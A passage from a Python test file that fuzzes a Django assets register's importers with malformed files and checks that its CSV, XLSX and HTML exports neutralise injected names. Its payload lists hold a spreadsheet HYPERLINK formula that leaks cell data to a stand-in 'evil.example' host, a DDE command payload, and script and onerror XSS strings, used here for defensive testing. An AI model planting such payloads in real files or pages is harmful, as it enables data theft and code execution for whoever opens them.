"""Bad input for every importer, and what the exports then make of it (issue 7).

Hypothesis builds each file from good rows spoilt the ways real files are: other encodings
(Windows-1252, Latin-1, UTF-16 with its BOM), NULs and control characters, cells of
100,000 characters, spreadsheet formulas, script tags, postcodes and coordinates that are
not, impossible dates, Excel serials, blank and ragged rows, missing, repeated and extra
columns, or no table at all. Whatever the file, the command reports what it did or fails
with a CommandError; every rejected row is named with its row and field; a failed run, a
dry run or a --strict run that rejected rows leaves the tables exactly as they were; the
same file again changes nothing; and what was stored fits PostgreSQL's columns too.

Then the exports: names imported as formulas or script tags come out of every CSV and
XLSX file as text, never as a formula, and escaped on the HTML pages.
"""

import contextlib
import csv
import datetime
import gzip
import hashlib
import io
import json
import re
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db import models, transaction
from django.db.backends.base.operations import BaseDatabaseOperations
from django.utils.html import escape

from assets_register.core.files import FORMULA_STARTS
from assets_register.importers.acv_fields import HEADINGS
from assets_register.indicators.compute import recompute
from assets_register.models import (
    Area,
    AreaKind,
    Asset,
    AssetEvent,
    BidderRequest,
    DisposalNotice,
    ListEntry,
    Nomination,
    PostcodeLocation,
)

from ..factories import AreaFactory, CouncilFactory, PostcodeLocationFactory, square

pytestmark = pytest.mark.django_db
FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
TABLES = (
    Area,
    PostcodeLocation,
    Asset,
    AssetEvent,
    ListEntry,
    Nomination,
    DisposalNotice,
    BidderRequest,
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
SCRIPT = "<script>alert(1)</script>"
NASTY = (
    *FORMULAS,
    SCRIPT,
    'Inn"><img src=x onerror=alert(1)>',
    "x" * 100_000,
    "é" * 100_000,
    "",
    " ",
    "-",
    "n/a",
    "\x00",
    "a\x00b",
    "\x01\x1f\x7f",
    "\u202eevil",
    "\ufeff",
    "\ud800",
    "😀",
    "²",
    "١٢٣",
    "line\nbreak",
    'a "quote"',
    "comma, here",
    "tab\there",
    "NaN",
    "-inf",
    "Infinity",
    "sNaN",
    "1e999",
    "1e-999",
    "0x1A",
    "1_000",
    "9" * 20,
    "9" * 5000,
    "31/02/2021",
    "99/99/9999",
    "29/02/2023",
    "00/00/0000",
    "44197",
    "44197.0",
    "2958466",
    "0",
    "-1",
    "DH7 XXX",
    "ZZ99 9ZZ",
    "GIR 0AA",
    "dh76lq",
    "DH7  6LQ",
    "ＤＨ７ ６ＬＱ",
    "BFPO 1234",
    "DH7 6LQ DH7 6LQ",
    "POINT (0 0)",
    "POINT (54.816 -1.626)",
    "(91.5, 181.5)",
    "POINT (424000.0 547000.0)",
    "54.816,-1.626",
)
ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16")


def cells(*good):
    return st.one_of(st.sampled_from(good or ("",)), st.sampled_from(NASTY), st.text(max_size=12))


def mostly(*good):
    return st.one_of(st.sampled_from(good), cells(*good))


# The database ------------------------------------------------------------------------------


def fingerprint():
    return {
        model.__name__: hashlib.sha256(
            repr(list(model.objects.order_by("pk").values_list())).encode()
        ).hexdigest()
        for model in TABLES
    }


def assert_storable(tables=TABLES):
    """SQLite stores text of any length, NULs and big numbers in any column; PostgreSQL
    refuses them, half way through an import or a form."""
    ranges = BaseDatabaseOperations.integer_field_ranges
    for model in tables:
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) or f.get_internal_type() in ranges
        ]
        for row in model.objects.values_list(*(f.name for f in fields)):
            for field, value in zip(fields, row, strict=True):
                where = f"{model.__name__}.{field.name} = {str(value)[:60]!r}"
                if value is None:
                    continue
                if field.get_internal_type() in ranges:
                    low, high = ranges[field.get_internal_type()]
                    assert low <= value <= high, where
                    continue
                assert "\x00" not in value, where
                if isinstance(field, models.CharField) and field.max_length:
                    assert len(value) <= field.max_length, where


@contextlib.contextmanager
def rolled_back():
    """Each example starts from the fixtures: its writes are undone afterwards."""
    cache.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@contextlib.contextmanager
def written(file):
    name, data = file
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(data)
        yield path


# Running a command and checking what it did --------------------------------------------

SUMMARY = re.compile(r"(\d+) created, (\d+) updated, (\d+) unchanged, (\d+) rejected")
REJECTED = re.compile(r"^  rejected (?:row|line) (\d+)(?:, ([^:]+))?: (.*)$", re.M)


@dataclass
class Outcome:
    error: str | None
    out: str
    err: str

    @property
    def counts(self):
        found = SUMMARY.search(self.out)
        assert found, f"no summary in {self.out!r}"
        return tuple(int(n) for n in found.groups())


def call(command, path, *args):
    """The command's output, or its CommandError; any other exception fails the test."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command(command, str(path), *args, stdout=out, stderr=err, verbosity=1)
    except CommandError as error:
        return Outcome(str(error), out.getvalue(), err.getvalue())
    return Outcome(None, out.getvalue(), err.getvalue())


def import_and_check(command, path, *args, mode=""):
    flags = [*args, f"--{mode}"] if mode else list(args)
    before = fingerprint()
    first = call(command, path, *flags)
    if first.error is not None:
        event("refused: " + first.error[:70])
        assert first.error.strip()
        assert fingerprint() == before, "a failed import changed the database"
        return first
    created, updated, unchanged, rejected = first.counts
    event(
        f"{'wrote' if created or updated else 'wrote nothing'}, "
        f"{'some' if rejected else 'no'} rows rejected"
    )
    rejections = REJECTED.findall(first.err)
    assert len(rejections) == rejected, first.err
    for row, field, message in rejections:
        assert int(row) >= 2 and message.strip()
        assert field or message.startswith("duplicate of "), (row, message)
    if mode == "dry-run" or (mode == "strict" and rejected):
        assert fingerprint() == before, f"--{mode} changed the database"
        return first
    assert_storable()
    after = fingerprint()
    second = call(command, path, *flags)
    assert second.error is None, second.error
    assert second.counts[:2] == (0, 0), f"not idempotent: {second.out}{second.err}"
    assert fingerprint() == after
    return first


# Files --------------------------------------------------------------------------------------


@st.composite
def headings(draw, fields, aliases=None):
    """(heading, field) pairs: usually every field, sometimes shuffled, one missing, one
    repeated or an extra column; for the ACV register, in any of its spellings."""
    columns = list(fields)
    if draw(st.booleans()):
        columns = draw(st.permutations(columns))
    if draw(st.integers(0, 7)) == 0:
        columns.remove(draw(st.sampled_from(columns)))
    if columns and draw(st.integers(0, 5)) == 0:
        columns.append(draw(st.sampled_from(columns)))
    pairs = []
    for field in columns:
        heading = field
        if aliases:
            heading = draw(st.sampled_from((field, *aliases.get(field, ()))))
            heading = heading.upper() if draw(st.integers(0, 5)) == 0 else heading
        pairs.append((heading, field))
    if draw(st.integers(0, 3)) == 0:
        pairs.append((draw(st.sampled_from(("notes", "", "Unnamed: 0", SCRIPT, "=1+1"))), None))
    return pairs


@st.composite
def tables(draw, columns, good_rows, aliases=None):
    """A header and up to five rows: good rows with up to three cells spoilt, blank rows and
    rows a cell short or a cell long."""
    header = draw(headings(list(columns), aliases))
    rows = []
    for _ in range(draw(st.integers(0, 5))):
        shape = draw(st.integers(0, 29))
        if shape == 0:
            rows.append([])
            continue
        values = dict(draw(st.sampled_from(good_rows)))
        for field in draw(st.lists(st.sampled_from(list(columns)), max_size=3)):
            values[field] = draw(columns[field])
        row = [values.get(field, "") if field else draw(cells()) for _, field in header]
        if shape == 1:
            row = row[:-1]
        elif shape == 2:
            row.append(draw(cells()))
        rows.append(row)
    return [heading for heading, _ in header], rows


def xlsx(header, rows, title=None):
    book = openpyxl.Workbook()
    sheet = book.active
    if title:
        sheet.append([title])
    for row in [header, *rows]:
        values = []
        for value in row:
            value = ILLEGAL_CHARACTERS_RE.sub("", value.encode("utf-8", "replace").decode())
            if re.fullmatch(r"\d{4}-\d\d-\d\d", value):
                with contextlib.suppress(ValueError):
                    value = datetime.date.fromisoformat(value)
            elif re.fullmatch(r"-?\d{1,9}(\.\d{1,6})?", value):
                value = float(value)
            values.append(value[:32767] if isinstance(value, str) else value)
        sheet.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def broken_zip(data, position, junk):
    """The zip with the part at this position replaced by junk, or left out (junk None)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    parts = source.namelist()
    broken = parts[position % len(parts)]
    with zipfile.ZipFile(out, "w") as archive:
        for part in parts:
            if part != broken:
                archive.writestr(part, source.read(part))
            elif junk is not None:
                archive.writestr(part, junk)
    return out.getvalue()


def encoded(text, encoding):
    return text.encode(encoding, "surrogatepass" if encoding.startswith("utf") else "replace")


@st.composite
def table_files(draw, columns, good_rows, suffixes=(".csv",), aliases=None):
    suffix = draw(st.sampled_from(suffixes))
    name = "fuzz" + suffix
    if draw(st.integers(0, 14)) == 0:  # not a table at all
        prefix = b"PK\x03\x04" if suffix == ".xlsx" else b""
        return name, prefix + draw(st.binary(max_size=300))
    header, rows = draw(tables(columns, good_rows, aliases))
    if suffix == ".xlsx":
        title = draw(st.sampled_from((None, "Assets of community value", *FORMULAS[:1])))
        data = xlsx(header, rows, title)
        if draw(st.integers(0, 5)) == 0:  # a workbook with one part missing or broken
            junk = (None, b"", b"<x", b"not xml", b"<worksheet><sheetData><row")
            data = broken_zip(data, draw(st.integers(0, 20)), draw(st.sampled_from(junk)))
        return name, data
    buffer = io.StringIO()
    ending = draw(st.sampled_from(("\r\n", "\n", "\n", "\r")))
    if ".tsv" in suffix:  # tab-separated files are written as they are, unquoted
        buffer.write(ending.join("\t".join(row) for row in [header, *rows]) + ending)
    else:
        csv.writer(buffer, lineterminator=ending).writerows([header, *rows])
    data = encoded(buffer.getvalue(), draw(st.sampled_from(ENCODINGS)))
    if suffix.endswith(".gz"):
        data = gzip.compress(data)[: draw(st.sampled_from((None, None, None, -8, 20)))]
    return name, data


def cast(**columns):
    return {name: cells(*good) for name, good in columns.items()}


GENERIC = cast(
    source_ref=("h1", "h2", "h3"),
    name=("The Red Lion", "Pub " + SCRIPT, *FORMULAS),
    category=("pub", "library", "Community centre", "PUB"),
    address=("1 Front Street",),
    postcode=("DH7 6LQ", "dh76lq", ""),
    latitude=("54.816", "54.8160001", ""),
    longitude=("-1.626", ""),
    uprn=("100012345678",),
    osm_id=("123456",),
    ownership=("public", "Community owned", ""),
    operator=("Durham County Council",),
    opened=("1890", "2019-06", "06/2019", "2012-03-31", "31/03/2012", ""),
    closed=("2019", "2019-06", "31/03/2012", ""),
)
GENERIC_ROWS = (
    {
        "source_ref": "h1",
        "name": "Sacriston Hall",
        "category": "Community centre",
        "postcode": "DH7 6LQ",
        "ownership": "community_owned",
        "opened": "1890",
    },
    {
        "source_ref": "h2",
        "name": "The Red Lion",
        "category": "pub",
        "latitude": "54.816",
        "longitude": "-1.626",
        "closed": "2019-06",
    },
    {"source_ref": "h3", "name": FORMULAS[0], "category": "library", "closed": "31/03/2012"},
)
LIBRARIES = cast(
    authority=("Durham", "Stoke-on-Trent"),
    name=("Sacriston Library", SCRIPT),
    address1=("Front Street",),
    address2=("Sacriston",),
    address3=("",),
    postcode=("DH7 6LQ", "ST2 8JE"),
    closed=("", "2018", "2018.0", "1799", "2999"),
    opened=("", "2012", "nan", "inf", "1e400"),
    uprn=("", "100012345678.0"),
    operating_organisation=("-", "Friends of the Library"),
    **{
        f"operation_{year}": (
            "LA",
            "LAU",
            "CL",
            "CR",
            "ICL",
            "Closed",
            "Temporary Closure",
            "Facility Not Open",
            "",
        )
        for year in (16, 19, 21, 22, 23)
    },
)
LIBRARY_ROWS = (
    {
        "authority": "Durham",
        "name": "Sacriston Library",
        "address1": "Front Street",
        "postcode": "DH7 6LQ",
        "opened": "1960",
        "operation_16": "LA",
        "operation_19": "CL",
        "operation_21": "Closed",
        "operation_22": "Closed",
        "operation_23": "LA",
    },
    {
        "authority": "Stoke-on-Trent",
        "name": "Abbey Hulton",
        "postcode": "ST2 8JE",
        "closed": "2018",
        "operation_16": "LAU",
        "operation_19": "Closed",
    },
)
OPEN_PUBS = cast(
    fas_id=("505554", "900001"),
    name=("Abbey Hotel", *FORMULAS),
    address=("The Broadway",),
    postcode=("ME12 2DA", "DH7 6LQ"),
    easting=("594596",),
    northing=("174100", "-5527598"),
    latitude=("51.432473", ""),
    longitude=("0.798100", ""),
    local_authority=("Swale",),
)
OPEN_PUB_ROWS = (
    {
        "fas_id": "505554",
        "name": "Abbey Hotel",
        "address": "The Broadway, Sheerness",
        "postcode": "ME12 2DA",
        "latitude": "51.432473",
        "longitude": "0.798100",
    },
    {"fas_id": "900001", "name": "No Location Arms", "postcode": "DH7 6LQ"},
)
OSM_PUBS = cast(
    name=("The Robin Hood", '"Quoted" Inn', SCRIPT),
    normalized_name=("The Robin Hood",),
    osm_id=("123456", "777", "12345678901234567890123456789012345"),
    latitude=("54.8160", ""),
    longitude=("-1.6260", ""),
)
OSM_PUB_ROWS = (
    {"name": "The Robin Hood", "osm_id": "123456", "latitude": "54.8160", "longitude": "-1.6260"},
    {"name": "", "osm_id": "777", "latitude": "54.817", "longitude": "-1.627"},
)
POSTCODES = cast(
    postcode=("DH7 6LQ", "DH7 6LR", "dh76lq"),
    positional_quality=("10", "60", ""),
    latitude=("54.816000", ""),
    longitude=("-1.626000", ""),
    admin_district_code=("E06000047",),
    admin_ward_code=("E05016190", ""),
)
POSTCODE_ROWS = (
    {
        "postcode": "DH7 6LQ",
        "positional_quality": "10",
        "latitude": "54.816000",
        "longitude": "-1.626000",
        "admin_district_code": "E06000047",
        "admin_ward_code": "E05016190",
    },
    {
        "postcode": "DH7 6LR",
        "positional_quality": "10",
        "latitude": "54.8161",
        "longitude": "-1.6261",
    },
)
DEPRIVATION = cast(
    lsoa11_code=("E01000001", "E01000002", "E01999999"),
    IMD_rank=("1200", "0", "-5"),
    IMD_decile=("1", "10", "11"),
)
DEPRIVATION_ROWS = (
    {"lsoa11_code": "E01000001", "IMD_rank": "1200", "IMD_decile": "1"},
    {"lsoa11_code": "E01000002", "IMD_rank": "20000", "IMD_decile": "7"},
    {"lsoa11_code": "E01999999", "IMD_rank": "29199", "IMD_decile": "9"},
)
ACV_DATES = (
    "2020-11-02",
    "02/11/2020",
    "3 March 2021",
    "28-Apr-21",
    "3rd March 2021",
    "Wednesday 3 March 2021",
    "March 2021",
    "2021",
    "44197",
    "2021-03-03T10:00:00",
    "2099-01-01",
    "1999-01-01",
    "",
)
ACV = cast(
    reference=("A-1", "A-2", "a-1", "R" * 41),
    name=(
        "The Robin Hood Inn",
        "Sacriston Village Hall, Front Street, Sacriston DH7 6LQ",
        SCRIPT,
        *FORMULAS,
    ),
    **{"address-text": ("1 Front Street, Sacriston, DH7 6LQ", "Front Street")},
    postcode=("DH7 6LQ",),
    point=(
        "POINT (-1.626 54.816)",
        "(54.816, -1.626)",
        "POINT (54.816 -1.626)",
        "POINT (-1.63 54.82)",
    ),
    latitude=("54.816",),
    longitude=("-1.626",),
    decision=(
        "Listed",
        "Unsuccessful",
        "Withdrawn",
        "Removed - sold",
        "Removed on appeal",
        "Expired",
        "Pending",
        "successful",
    ),
    **{
        field: ACV_DATES
        for field in (
            "nomination-date",
            "decision-date",
            "expiry-date",
            "notification-to-sell-date",
            "protected-period-start-date",
            "end-date",
        )
    },
    **{
        field: ("Friends of the Robin Hood", SCRIPT, *FORMULAS)
        for field in (
            "nominating-group",
            "interested-group",
            "notes",
            "reason-unsuccessful",
            "description",
        )
    },
)
ACV_ROWS = (
    {
        "reference": "A-1",
        "name": "The Robin Hood Inn",
        "point": "POINT (-1.626 54.816)",
        "address-text": "1 Front Street, Sacriston, DH7 6LQ",
        "nomination-date": "2020-11-02",
        "nominating-group": "Friends of the Robin Hood",
        "decision": "Listed",
        "decision-date": "2020-12-14",
        "notification-to-sell-date": "2023-05-01",
        "interested-group": "Sacriston Community Pub Ltd",
    },
    {
        "reference": "A-2",
        "name": "Sacriston Library",
        "decision": "successful",
        "decision-date": "03/03/2021",
        "postcode": "DH7 6LQ",
    },
    {
        "reference": "A-3",
        "name": "Fulforth Centre",
        "decision": "Unsuccessful",
        "nomination-date": "4 January 2021",
        "decision-date": "26-Feb-21",
        "notes": "The use is ancillary to the school.",
    },
    {
        "reference": "A-4",
        "name": "The Old Chapel, Plawsworth Road, Sacriston DH7 6LQ",
        "decision": "Removed - sold",
        "decision-date": "2015-06-01",
        "notification-to-sell-date": "2017-03-01",
        "end-date": "2018-02-01",
    },
    {
        "reference": "A-5",
        "name": "Recreation Ground",
        "decision": "Withdrawn",
        "nomination-date": "2022-01-10",
        "decision-date": "2022-02-01",
    },
)


@pytest.fixture
def areas(db):
    """Durham with a ward, two LSOAs and a postcode, for imports to locate and link to."""
    council = CouncilFactory(
        gss_code="E06000047", name="County Durham", boundary=square(-2.0, 54.5, -1.0, 55.0)
    )
    AreaFactory(
        gss_code="E05009076",
        name="Sacriston",
        parent=council,
        boundary=square(-1.66, 54.80, -1.60, 54.83),
    )
    for code in ("E01000001", "E01000002"):
        AreaFactory(gss_code=code, kind=AreaKind.LSOA, parent=council)
    PostcodeLocationFactory(postcode="DH7 6LQ")
    return council


MODES = st.sampled_from(("", "", "strict", "dry-run"))


# Assets ----------------------------------------------------------------------------------


@FUZZ
@given(file=table_files(GENERIC, GENERIC_ROWS, suffixes=(".csv", ".xlsx")), mode=MODES)
@example(
    file=("fuzz.csv", b"source_ref,name,category,latitude,longitude\nh1,X,pub,NaN,NaN\n"), mode=""
)
@example(file=("fuzz.xlsx", b"PK\x03\x04 not really a zip"), mode="")
@example(file=("fuzz.xlsx", broken_zip(xlsx(["source_ref"], []), 0, b"<x")), mode="")
@example(file=("fuzz.xlsx", broken_zip(xlsx(["source_ref"], []), 8, None)), mode="")
def test_generic_csv(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check(
            "import_assets", path, "--format", "generic", "--source", "fuzz", mode=mode
        )


@FUZZ
@given(file=table_files(LIBRARIES, LIBRARY_ROWS), mode=MODES)
@example(
    file=(
        "fuzz.csv",
        b"authority,name,address1,postcode,closed,opened\n"
        b"Durham,Sacriston,Front Street,DH7 6LQ,,inf\n",
    ),
    mode="",
)
def test_libraries(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_assets", path, "--format", "libraries", mode=mode)


@FUZZ
@given(file=table_files(OPEN_PUBS, OPEN_PUB_ROWS), mode=MODES)
@example(
    file=(
        "fuzz.csv",
        b"fas_id,name,address,postcode,latitude,longitude\n"
        + b"9" * 150
        + b",Inn,High Street,DH7 6LQ,,\n",
    ),
    mode="",
)
def test_open_pubs(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_assets", path, "--format", "open-pubs", mode=mode)


@FUZZ
@given(file=table_files(OSM_PUBS, OSM_PUB_ROWS, suffixes=(".tsv",)), mode=MODES)
@example(
    file=(
        "fuzz.tsv",
        b"name\tosm_id\tlatitude\tlongitude\n"
        b"Inn\t12345678901234567890123456789012345\t54.8\t-1.6\n",
    ),
    mode="",
)
def test_osm_pubs(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_assets", path, "--format", "osm-pubs", mode=mode)


# Areas and the tables about them --------------------------------------------------------


@FUZZ
@given(file=table_files(POSTCODES, POSTCODE_ROWS, suffixes=(".csv", ".csv.gz")), mode=MODES)
@example(
    file=(
        "fuzz.csv",
        "postcode,positional_quality,latitude,longitude\nDH7 6LR,²,54.8,-1.6\n".encode(),
    ),
    mode="",
)
@example(file=("fuzz.csv", b"postcode,latitude,longitude\nDH7 6LR,NaN,-1.6\n"), mode="")
@example(file=("fuzz.csv.gz", gzip.compress(b"postcode,latitude,longitude\n")[:-8]), mode="")
@example(file=("fuzz.csv.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 6 + b"garbage"), mode="")
@example(file=("fuzz.csv", b"postcode,latitude,longitude\nDH7 6LR\x00,54.8,-1.6\n"), mode="")
@example(
    file=("fuzz.csv", b"postcode,positional_quality,latitude,longitude\nDH7 6LR,99999,54.8,-1.6\n"),
    mode="",
)
def test_postcodes(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_postcodes", path, mode=mode)


@FUZZ
@given(file=table_files(DEPRIVATION, DEPRIVATION_ROWS), mode=MODES)
@example(
    file=("fuzz.csv", b"lsoa11_code,IMD_rank,IMD_decile\nE01000001,99999999999999999999,1\n"),
    mode="",
)
def test_deprivation(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_deprivation", path, mode=mode)


COORDINATES = st.sampled_from(
    (-1.66, -1.6, 54.8, 54.83, 0.0, 181.0, -91.0, float("nan"), float("inf"), 1e308, 424000.0)
)
BAD_GEOMETRIES = (
    None,
    {},
    "POLYGON ((0 0, 1 0, 1 1, 0 0))",
    5,
    [],
    {"type": "Polygon"},
    {"type": "Point", "coordinates": [-1.6, 54.8]},
    {"type": "Polygon", "coordinates": "x"},
    {"type": "Polygon", "coordinates": [[[-1.6, 54.8], [-1.5, 54.9]]]},
    {
        "type": "Polygon",
        "coordinates": [[[-1.6, 54.8], [-1.5, 54.9], [-1.5, 54.8], [-1.6, 54.9], [-1.6, 54.8]]],
    },  # a bow tie
    {"type": "Polygon", "coordinates": [[[None, 54.8], [-1.5, 54.8], [-1.5, 54.9], [None, 54.8]]]},
    {"type": "Polygon", "coordinates": [[["a", 54.8], [-1.5, 54.8], [-1.5, 54.9], ["a", 54.8]]]},
    {
        "type": "Polygon",
        "coordinates": [[[-1.6, 54.8, 1, 2, 3], [-1.5, 54.8], [-1.5, 54.9], [-1.6, 54.8]]],
    },
    {"type": "Nonsense", "coordinates": []},
    {"type": "GeometryCollection"},
    {"type": "GeometryCollection", "geometries": [1]},
    {"type": "MultiPolygon", "coordinates": [[[[-1.6, 54.8], [-1.5, 54.8]]]]},
)
GEOMETRIES = st.one_of(
    st.just(square(-1.66, 54.80, -1.60, 54.83)),
    st.just(square(-1.70, 54.75, -1.66, 54.80)),
    st.builds(square, COORDINATES, COORDINATES, COORDINATES, COORDINATES),
    st.sampled_from(BAD_GEOMETRIES),
)
NOT_FEATURES = (
    None,
    "Feature",
    5,
    [],
    {},
    {"type": "Feature"},
    {"type": "Feature", "properties": [], "geometry": None},
)
BAD_PROPERTIES = (
    None,
    [],
    "properties",
    5,
    {},
    {"code": None, "name": None},
    {"code": ["E05000001"], "name": {"a": 1}},
)


@st.composite
def feature_collections(draw):
    code_key = draw(st.sampled_from(("WD13CD", "LAD24CD", "LSOA11CD", "code")))
    name_key = draw(st.sampled_from(("WD13NM", "LAD24NM", "LSOA11NM", "name")))
    features = []
    for _ in range(draw(st.integers(0, 4))):
        if draw(st.integers(0, 7)) == 0:
            features.append(draw(st.sampled_from(NOT_FEATURES)))
            continue
        properties = {
            code_key: draw(
                st.one_of(
                    mostly("E05000001", "E05000002", "E050000012345"), st.none(), st.integers()
                )
            ),
            name_key: draw(st.one_of(mostly("West Ward", SCRIPT, *FORMULAS), st.none())),
        }
        if draw(st.booleans()):
            properties["LAD_CD"] = draw(mostly("E06000047", "E06999999"))
        if draw(st.integers(0, 7)) == 0:
            properties = draw(st.sampled_from(BAD_PROPERTIES))
        features.append({"type": "Feature", "properties": properties, "geometry": draw(GEOMETRIES)})
    return {"type": "FeatureCollection", "features": features}


DOCUMENTS = st.one_of(
    feature_collections(),
    feature_collections(),
    st.fixed_dictionaries(
        {
            "type": st.just("FeatureCollection"),
            "features": st.sampled_from((None, "features", 5, {"a": 1}, True, [[]])),
        }
    ),
    st.sampled_from(([], "FeatureCollection", None, 5, {"type": "Feature"})),
)


@st.composite
def geojson_files(draw):
    choice = draw(st.integers(0, 11))
    if choice == 0:
        return "fuzz.geojson", draw(st.binary(max_size=300))
    text = json.dumps(draw(DOCUMENTS), allow_nan=True)  # Python's json reads NaN back
    return "fuzz.geojson", encoded(text, draw(st.sampled_from(ENCODINGS)))


@FUZZ
@given(
    file=geojson_files(),
    kind=st.sampled_from(("council", "ward", "lsoa")),
    valid_from=st.sampled_from(("", "", "2013-05-02", "2013-02-30", "soon", "99999-01-01")),
    mode=MODES,
)
@example(
    file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": "abc"}'),
    kind="ward",
    valid_from="",
    mode="",
)
@example(
    file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": [1, 2]}'),
    kind="ward",
    valid_from="",
    mode="",
)
@example(
    file=(
        "fuzz.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
                        "geometry": {"type": "Polygon"},
                    }
                ],
            }
        ).encode(),
    ),
    kind="ward",
    valid_from="",
    mode="",
)
@example(
    file=(
        "fuzz.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
                        "geometry": {"type": "Nonsense", "coordinates": [1]},
                    }
                ],
            }
        ).encode(),
    ),
    kind="ward",
    valid_from="",
    mode="",
)
@example(
    file=(
        "fuzz.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {
                            "LAD24CD": "E06000047",
                            "LAD22CD": "E06000047",
                            "LAD24NM": "\ud800\x00",
                        },
                        "geometry": square(-1.66, 54.80, -1.60, 54.83),
                    }
                ],
            }
        ).encode(),
    ),
    kind="council",
    valid_from="",
    mode="",
)
@example(
    file=("fuzz.geojson", b"[" * 100_000 + b"]" * 100_000), kind="ward", valid_from="", mode=""
)
@example(
    file=(
        "fuzz.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {"WD13CD": "E050000012345", "WD13NM": "Long code"},
                        "geometry": square(-1.66, 54.80, -1.60, 54.83),
                    }
                ],
            }
        ).encode(),
    ),
    kind="ward",
    valid_from="",
    mode="",
)
def test_boundaries(areas, file, kind, valid_from, mode):
    with rolled_back(), written(file) as path:
        import_and_check(
            "import_boundaries", path, "--kind", kind, "--valid-from", valid_from, mode=mode
        )


# A council's list of assets of community value -------------------------------------------


@FUZZ
@given(
    file=table_files(ACV, ACV_ROWS, suffixes=(".csv", ".tsv", ".xlsx"), aliases=HEADINGS),
    mode=MODES,
)
@example(
    file=(
        "fuzz.csv",
        b"reference,name,decision,decision-date,latitude,longitude\n"
        b"A-1,Inn,Listed,2020-12-14,91.5,181.5\n",
    ),
    mode="",
)
def test_acv_register(areas, file, mode):
    with rolled_back(), written(file) as path:
        import_and_check("import_acv_register", path, "--council", "E06000047", mode=mode)


def test_an_unknown_council_is_a_command_error(areas, tmp_path):
    path = tmp_path / "acv.csv"
    path.write_text("reference,name,decision,decision-date\nA-1,Inn,Listed,2020-12-14\n")
    with pytest.raises(CommandError, match="no council"):
        call_command(
            "import_acv_register",
            str(path),
            "--council",
            "<script>",
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
    assert not ListEntry.objects.exists()


# What leaves: exports and pages --------------------------------------------------------

ATTACKS = st.one_of(
    st.sampled_from((*FORMULAS, "Pub " + SCRIPT, '=HYPERLINK("javascript:alert(1)")')),
    st.tuples(
        st.sampled_from("=+-@"),
        st.text(
            st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1, max_size=20
        ),
    ).map("".join),
)


def csv_cells(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, data[:300]
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def is_number(text):
    return re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", text) is not None


def import_text(command, name, text, *args):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_text(text, encoding="utf-8")
        out, err = io.StringIO(), io.StringIO()
        call_command(command, str(path), *args, stdout=out, stderr=err)
        assert " 0 rejected" in out.getvalue(), err.getvalue()


def import_attack(attack):
    """The attack as a place's name, address and operator; as an ACV's name, nominating
    group, interested group and notes; and as a ward's name."""
    rows = io.StringIO()
    csv.writer(rows).writerows(
        [
            ["source_ref", "name", "category", "address", "operator", "postcode", "closed"],
            ["h1", attack, "pub", attack, attack, "DH7 6LQ", "2019"],
            ["h2", "The Old " + SCRIPT, "library", "Front Street", "", "DH7 6LQ", ""],
        ]
    )
    import_text(
        "import_assets", "places.csv", rows.getvalue(), "--format", "generic", "--source", "fuzz"
    )
    rows = io.StringIO()
    nominated, listed, notice = (
        datetime.date.today() - datetime.timedelta(days=days) for days in (150, 100, 20)
    )  # on the list today
    csv.writer(rows).writerows(
        [
            [
                "reference",
                "name",
                "address-text",
                "nominating-group",
                "decision",
                "nomination-date",
                "decision-date",
                "notification-to-sell-date",
                "interested-group",
                "notes",
            ],
            [
                "A-1",
                attack,
                "1 Front Street, Sacriston, DH7 6LQ",
                attack,
                "Listed",
                nominated,
                listed,
                notice,
                attack,
                attack,
            ],
        ]
    )
    import_text("import_acv_register", "acv.csv", rows.getvalue(), "--council", "E06000047")
    wards = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "geometry": square(-1.75, 54.75, -1.70, 54.80),
                "properties": {"WD13CD": "E05009077", "WD13NM": attack, "LAD_CD": "E06000047"},
            }
        ],
    }
    import_text("import_boundaries", "wards.geojson", json.dumps(wards), "--kind", "ward")
    recompute()


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(attack=ATTACKS)
